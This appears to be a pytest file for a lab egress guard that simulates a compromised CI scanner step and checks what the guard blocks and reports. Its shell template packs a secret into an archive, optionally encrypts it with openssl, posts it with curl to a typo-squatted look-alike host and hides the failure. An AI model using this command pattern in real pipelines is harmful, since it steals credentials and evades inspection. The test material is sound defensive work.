# SPDX-License-Identifier: MIT
"""I-18, Trivy: credentials in an archive that is encrypted before it is sent.

The primary drop was a name one letter off the vendor's, over HTTPS; the fall-back an upload to the
allowed forge. The step's real work runs afterwards, so the job looks well. No tool can find a
value in what is encrypted: what can be asserted is where it may go. Unencrypted, the same archive
is found.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest

from lab import Lab
from lab.guard import DENIED, FINDINGS, Guarded
from lab.tokens import Token

pytestmark = pytest.mark.root

Guard = Callable[..., Guarded]

VENDOR, LOOK_ALIKE = "scan.vendor.test", "scan.vender.collector.test"
POLICY = f"version: 1\nallow: [{VENDOR}, other.test]\n"
HOSTS = {"look-alike": LOOK_ALIKE, "allowed": "other.test"}
ENCRYPT = """\
openssl rand -hex 32 > session.key
openssl enc -aes-256-cbc -pbkdf2 -pass file:session.key -in tpcp.tar.gz -out sent
"""
STEP = """\
set -e
mkdir loot; printf 'token = %s\\n' "$SECRET" > loot/credentials
tar czf tpcp.tar.gz loot
{encrypt}
curl -s -m 5 --data-binary @sent -H "X-Filename: tpcp.tar.gz" https://{host}/ || true
echo scanned
"""
PLAIN = "cp tpcp.tar.gz sent"


def job(host: str, encrypt: str) -> list[str]:
    """The step."""
    return ["sh", "-c", STEP.format(encrypt=encrypt, host=HOSTS[host])]


def sent(lab: Lab, host: str) -> int:
    """Bytes that arrived, after TLS."""
    drop = {"look-alike": lab.collector, "allowed": lab.other}[host]
    return sum(len(seen.plain) for seen in drop.connections)


@pytest.mark.parametrize("host", sorted(HOSTS))
@pytest.mark.parametrize("encrypt", [ENCRYPT, PLAIN], ids=["encrypted", "plain"])
def test_unguarded_the_archive_arrives(lab: Lab, secret: Token, host: str, encrypt: str) -> None:
    done = lab.run(job(host, encrypt), env={"SECRET": secret.value})
    assert done.stdout.endswith("scanned\n")
    assert sent(lab, host) > 100


@pytest.mark.parametrize("encrypt", [ENCRYPT, PLAIN], ids=["encrypted", "plain"])
def test_block_sends_nothing_to_a_name_that_looks_like_the_vendors(
    lab: Lab, leakstop: Guard, secret: Token, encrypt: str
) -> None:
    command = job("look-alike", encrypt)
    env = {"SECRET": secret.value}
    run = leakstop(command, mode="block", policy=POLICY, secrets=[secret], env=env)
    assert lab.collector.connections == []
    assert run.code == DENIED
    assert run.stdout.endswith("scanned\n"), "the step hides its failure, the guard does not"
    assert LOOK_ALIKE in {finding["destination"].partition(":")[0] for finding in run.findings()}


@pytest.mark.parametrize(
    ("mode", "host"), [("audit", "look-alike"), ("audit", "allowed"), ("block", "allowed")]
)
def test_encrypted_it_leaves_and_only_the_place_is_known(
    lab: Lab, leakstop: Guard, secret: Token, mode: str, host: str
) -> None:
    """Honest: nothing in these bytes is the secret. The report says who sent how much where."""
    env = {"SECRET": secret.value}
    run = leakstop(job(host, ENCRYPT), mode=mode, policy=POLICY, secrets=[secret], env=env)
    assert sent(lab, host) > 100
    assert (run.code, run.findings()) == (0, []), run.stderr
    (flow,) = [flow for flow in run.report["flows"] if flow["host"] == HOSTS[host] and flow["ip"]]
    assert flow["process"]["exe"].endswith("/curl")


@pytest.mark.parametrize(
    ("mode", "host"), [("audit", "look-alike"), ("audit", "allowed"), ("block", "allowed")]
)
def test_an_archive_that_is_only_compressed_is_found(
    lab: Lab, leakstop: Guard, secret: Token, mode: str, host: str
) -> None:
    env = {"SECRET": secret.value}
    run = leakstop(job(host, PLAIN), mode=mode, policy=POLICY, secrets=[secret], env=env)
    assert run.code == FINDINGS, run.stderr
    (found,) = run.findings("secret-in-tls")
    assert (found["severity"], found["secret"]) == ("critical", secret.name)
    assert found["bytes_left"] != 0 or sent(lab, host) == 0
    assert run.shows(secret) == []
